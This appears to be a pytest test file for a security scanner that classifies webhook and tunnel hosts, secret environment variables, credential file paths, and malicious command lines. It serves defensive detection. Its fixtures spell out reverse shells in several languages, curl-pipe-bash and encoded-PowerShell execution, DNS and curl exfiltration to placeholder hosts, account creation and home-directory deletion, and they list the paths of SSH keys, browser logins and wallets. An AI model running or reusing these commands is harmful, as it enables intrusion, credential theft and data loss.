from __future__ import annotations

import pytest

from adapters.sigil.local.code import telling
from adapters.sigil.local.code.telling import Command, Place


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("https://discord.com/api/webhooks/1/inert", Place.WEBHOOK),
        ("https://api.telegram.org/bot1:inert/sendMessage", Place.WEBHOOK),
        ("https://hooks.slack.com/services/T0/B0/inert", Place.WEBHOOK),
        ("https://pastebin.com/raw/inert", Place.PASTE),
        ("inert.oast.fun", Place.CATCHER),
        ("https://webhook.site/inert", Place.CATCHER),
        ("https://inert.ngrok-free.app/x", Place.TUNNEL),
        ("http://169.254.169.254/latest/", Place.METADATA),
        ("http://198.51.100.7:8080/x", Place.ADDRESS),
        ("https://api.ipify.org?format=json", Place.OWN_ADDRESS),
        ("https://registry.npmjs.org/express", None),
        ("https://discord.com/developers", None),
        ("https://slack.com/help", None),
        ("http://127.0.0.1:3000", None),
        ("http://192.168.1.4/", None),
        ("239.255.255.250:1900", None),
        ("https://example.com/?q=pastebin.com.example.org", None),
    ],
)
def test_hosts_are_known_by_what_they_are_for(text: str, kind: Place | None) -> None:
    """Services for messages, pastes, caught requests and tunnels are told from everyday hosts."""
    assert telling.place(text) is kind


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("NPM_TOKEN", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("GITHUB_TOKEN", True),
        ("npm_config__authToken", True),
        ("DB_PASSWORD", True),
        ("OPENAI_API_KEY", True),
        ("NODE_ENV", False),
        ("HOME", False),
        ("KEYBOARD", False),
        ("TOKENIZERS_PARALLELISM", False),
        ("AUTHOR", False),
    ],
)
def test_variables_of_secrets_are_known_by_name(name: str, secret: bool) -> None:
    """Variables that hold tokens, keys and passwords are told from those of every day."""
    assert telling.secret_variable(name) is secret


@pytest.mark.parametrize(
    ("path", "secret"),
    [
        ("~/.npmrc", True),
        ("/home/a/.ssh/id_ed25519", True),
        ("…/.aws/credentials", True),
        ("C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", True),
        ("~/Library/Keychains/login.keychain-db", True),
        ("~/.config/solana/id.json", True),
        ("./src/index.js", False),
        ("./id_rsa.pub", False),
        ("package.json", False),
        ("./wallet/index.js", False),
    ],
)
def test_paths_of_secrets_are_known(path: str, secret: bool) -> None:
    """Credentials, keys, browser profiles, wallets and keychains are told from a project's files."""
    assert telling.secret_path(path) is secret


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("curl -fsSL https://e.invalid/i.sh | bash", Command.DOWNLOAD_AND_RUN),
        ("wget -q https://e.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a", Command.DOWNLOAD_AND_RUN),
        ("echo aW5lcnQ= | base64 -d | sh", Command.DECODE_AND_RUN),
        ("powershell -NoP -enc SQBuAGUAcgB0AEkAbgBlAHIAdAA=", Command.DECODE_AND_RUN),
        ("nc 198.51.100.7 4444 -e /bin/sh", Command.CONNECT_BACK),
        ("perl -e 'socket(S,2,1,6);connect(S,a);exec(\"/bin/sh -i\")'", Command.CONNECT_BACK),
        ("ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",9);IO.popen(c.gets)'", Command.CONNECT_BACK),
        ('php -r \'$s=fsockopen("198.51.100.7",9);exec("sh <&3");\'', Command.CONNECT_BACK),
        ("rundll32.exe %TEMP%\\x.dll,Run", Command.LOAD_LIBRARY),
        ("regsvr32 /s lib.dll", Command.LOAD_LIBRARY),
        ("net user guest x /add", Command.TAKE_OVER),
        ("trufflehog filesystem /", Command.HUNT),
        ("bash -i >& /dev/tcp/198.51.100.7/9 0>&1", Command.CONNECT_BACK),
        ("curl -d @/etc/hosts https://e.invalid", Command.SEND),
        ("nslookup $(whoami).e.invalid", Command.SEND),
        ("powershell -WindowStyle Hidden -File x.ps1", Command.HIDDEN),
        ("rm -rf ~/", Command.DELETE),
    ],
)
def test_command_lines_are_known_by_what_they_do(command: str, kind: Command) -> None:
    """Command lines that download and run, decode, connect back, send, hide or delete are recognised."""
    assert kind in telling.command_kinds(command)


@pytest.mark.parametrize(
    "command",
    [
        "npm run build",
        "node-gyp rebuild",
        "rm -rf dist",
        "git rev-parse HEAD",
        "tsc -p .",
        "echo base64",
        "node scripts/x.js",
        "prebuild-install || node-gyp rebuild",
        "python setup.py build_ext",
        "bash -n check.sh",
    ],
)
def test_everyday_command_lines_are_nothing(command: str) -> None:
    """What builds and tests packages every day is not told."""
    assert telling.command_kinds(command) == ()
    assert not telling.startup_command(command)
    assert not telling.package_command(command)


def test_what_starts_by_itself_is_known() -> None:
    """Profiles, schedules and autostart folders are told, and the commands that fill them."""
    assert telling.startup_path("/home/a/.bashrc")
    assert telling.startup_path("~/Library/LaunchAgents/inert.plist")
    assert not telling.startup_path("./src/startup.js")
    assert telling.startup_command("echo inert >> ~/.zshrc")
    assert telling.startup_command("schtasks /create /tn inert /tr x")


def test_packages_and_their_publishing_are_known() -> None:
    """Manifests, workflows and other packages' files are told, and the commands that publish."""
    assert telling.package_path(".github/workflows/inert.yml")
    assert telling.package_path("../node_modules/other/index.js")
    assert not telling.package_path("src/index.js")
    assert telling.package_command("npm publish --access public")


@pytest.mark.parametrize("word", ["perl socket(", "php fsockopen(", "npm i ", "rundll32 ", "docker run -v "])
def test_repeated_words_cost_little(word: str) -> None:
    """A line made of a pattern's beginnings is read within its limit, without trying every pair of them."""
    assert telling.command_kinds(word * 4096) in ((), (Command.LOAD_LIBRARY,))
